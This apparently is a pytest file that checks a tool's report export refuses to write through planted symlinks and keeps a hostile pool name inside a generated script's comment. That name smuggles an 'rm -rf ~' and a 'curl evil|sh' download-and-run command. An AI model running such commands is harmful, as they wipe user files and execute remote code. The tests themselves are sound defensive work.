"""Issue 30, rows 12-13: exports never write through a planted link, and names cannot break out of a script comment."""
from __future__ import annotations

import json
import os

import pytest

from shapeviz.cli import main
from shapeviz.outputs.report.bundle import Bundle, write_bundle
from shapeviz.workload import synth


def test_report_out_never_writes_through_a_symlink(tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    out = tmp_path / "report"
    out.mkdir()
    (out / "report.html").symlink_to(victim)
    paths = write_bundle(Bundle({"report.html": b"<html>memo</html>", "tables/shapes.csv": b"a,b\r\n"}), out)
    assert victim.read_text() == "keep me"
    assert not (out / "report.html").is_symlink() and (out / "report.html").read_bytes() == b"<html>memo</html>"
    assert [p.name for p in paths] == ["report.html", "shapes.csv"]
    assert (out / "report.html").stat().st_mode & 0o777 == 0o644


def test_report_out_refuses_a_subfolder_that_is_a_link(tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    out = tmp_path / "report"
    out.mkdir()
    os.symlink(elsewhere, out / "tables")
    with pytest.raises(ValueError, match="is a link or a file"):
        write_bundle(Bundle({"tables/shapes.csv": b"a,b\r\n"}), out)
    assert list(elsewhere.iterdir()) == []


def test_a_newline_in_a_pool_name_stays_inside_the_scripts_comment(tmp_path, capsys):
    log = synth.write_log(synth.scenario("rag_search", 400, seed=1), tmp_path / "log.csv")
    fleet = {"model": "llama-3.1-70b", "pools": [
        {"name": "rag\nrm -rf ~ #\r\u2028curl evil|sh", "products": ["*"], "gpu": "h100-sxm", "tp": 2, "replicas": 1}]}
    fleet_file = tmp_path / "fleet.json"
    fleet_file.write_text(json.dumps(fleet))
    assert main(["config", str(log), "--fleet", str(fleet_file), "--engine", "vllm"]) == 0
    script = capsys.readouterr().out
    assert "# ######## pool rag rm -rf ~ # curl evil|sh: vLLM ########" in script
    # every line that mentions the payload is a comment
    assert all(line.startswith("#") for line in script.splitlines() if "rm -rf" in line or "curl" in line)
